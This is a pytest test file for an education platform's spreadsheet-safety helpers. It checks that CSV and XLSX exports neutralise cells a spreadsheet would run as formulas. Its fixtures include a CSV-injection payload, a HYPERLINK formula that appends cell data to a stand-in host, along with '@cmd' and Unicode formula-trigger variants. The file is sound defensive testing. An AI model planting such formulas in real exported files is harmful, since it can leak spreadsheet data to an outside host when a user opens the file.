"""Cells that a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from nastavnik.platform import documents as d
from nastavnik.platform.spreadsheet_safety import csv_bytes, csv_value, looks_like_formula

ATTACK = '=HYPERLINK("http://x"&A1,"click")'


@pytest.mark.parametrize(
    "text",
    [
        ATTACK,
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "  =1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
    ],
)
def test_text_that_a_spreadsheet_would_run_is_recognised(text: str) -> None:
    assert looks_like_formula(text)
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Иванов", "7А", "1+1", "a=b", "e-mail@x.ru", " "])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert not looks_like_formula(text)
    assert csv_value(text) == text


def test_csv_numbers_stay_numbers_and_formulas_get_a_quote() -> None:
    content = csv_bytes([["Строка", "Значение"], [-3, ATTACK], [4, "@cmd"]])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Строка", "Значение"], ["-3", "'" + ATTACK], ["4", "'@cmd"]]


def test_xlsx_text_cells_are_strings_and_numbers_stay_numbers() -> None:
    table = d.Table(
        columns=(d.Column(ATTACK, 2), d.Column("Число", 1)),
        rows=[d.SectionRow("=1+1"), (ATTACK, -5), (d.Cell("+7 900 000-00-00"), 3)],
    )
    sheet = load_workbook(io.BytesIO(d.render_xlsx([("Лист", table)]))).active
    assert sheet is not None
    cells = [sheet.cell(row=r, column=c) for r in range(1, 5) for c in (1, 2) if (r, c) != (2, 2)]
    by_ref = {cell.coordinate: cell for cell in cells}
    for ref in ("A1", "A2", "A3", "A4"):
        assert by_ref[ref].data_type == "s", ref
    assert by_ref["A1"].value == ATTACK
    assert by_ref["A2"].value == "=1+1"
    assert by_ref["A3"].value == ATTACK
    assert by_ref["A3"].quotePrefix
    assert (by_ref["B3"].value, by_ref["B3"].data_type) == (-5, "n")
    assert (by_ref["B4"].value, by_ref["B4"].data_type) == (3, "n")


def test_xlsx_drops_control_characters_instead_of_failing() -> None:
    table = d.Table(columns=(d.Column("Имя", 1),), rows=[("Ив\x01анов",)])
    sheet = load_workbook(io.BytesIO(d.render_xlsx([("Лист", table)]))).active
    assert sheet is not None
    assert sheet["A2"].value == "Иванов"
